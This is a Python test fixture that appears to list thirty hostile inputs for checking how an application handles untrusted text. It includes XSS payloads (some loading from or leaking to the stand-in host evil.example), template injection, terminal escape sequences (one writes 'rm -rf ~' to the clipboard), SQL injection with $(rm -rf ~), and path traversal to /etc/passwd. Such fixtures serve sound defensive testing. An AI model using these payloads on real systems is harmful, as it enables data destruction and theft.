"""Thirty texts that somebody might smuggle into a task: for the terminal, the page, a chat, a file, SQL."""

MEBIBYTE = 1024 * 1024

PAYLOADS: dict[str, str] = {
    "script": "<script>document.title='owned';fetch('/api/purge',{method:'POST'})</script>",
    "broken script": "</script><script src=//evil.example/x.js></ScRiPt >",
    "image with handler": "<img src=x onerror=\"document.title='owned'\">",
    "svg with handler": "<svg/onload=document.title='owned'><animate onbegin=alert(1) attributeName=x>",
    "handler in attribute": '" onmouseover="document.title=\'owned\'" x="',
    "attribute with apostrophe": "' autofocus onfocus='document.title=1' '",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "style": "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/leak)}</style>",
    "form": "<form action=//evil.example><button formaction=javascript:alert(1)>ok</button></form>",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "javascript link": "[click](javascript:document.title='owned') <a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown image": "![x](http://evil.example/leak?q=secret) ![y](javascript:alert(1))",
    "template": "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> #{7*7}",
    "html entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "title of a terminal": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "clipboard of a terminal": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "link of a terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear and answer back": "\x1b[2J\x1b[H\x1b[6n\x1b[5n\x1bc\x1b[?1049h",
    "colours": "\x1b[31;5;7mred\x1b[0m \x1b[38;2;1;2;3mrgb",
    "C1 controls": "a\x9b31mb\x9d0;owned\x9c\x85\x90q\x9c\x84",
    "carriage returns and backspaces": "good\rbad \x08\x08\x08\x7f\x0b\x0c end",
    "bidi": "user\u202e\u2066 // admin\u2069 \u2066\u202d\u200f\u061cabc\u202c",
    "invisible": "a\u200bb\u200cc\u2060d\ufeffe\u00ad.f\u180eg\U000e0041\U000e007f",
    "rich markup": "[bold red]x[/] [/x] [link=file:///etc/passwd]y[/link] :boom: [@click=app.quit]z[/]",
    "line separators": "one\u2028two\u2029three\x1c\x1d\x1e\x85four",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f \u2764\ufe0f \U0001f1e9\U0001f1ea",
    "right to left": "مرحبا بالعالم שלום עולם 123",
    "combining flood": "Z" + "\u0301\u0327\u0489" * 2000,
    "SQL, shell and paths": "'; DROP TABLE tasks; -- $(rm -rf ~) `id` ../../../etc/passwd %s%n\\x00 \\u0000",
    "one line of a mebibyte": "x" * MEBIBYTE,
}


def short(payload: str, size: int) -> str:
    """As much of a payload as has room in a field of `size` bytes."""
    return payload.encode()[:size].decode(errors="ignore").strip() or "x"
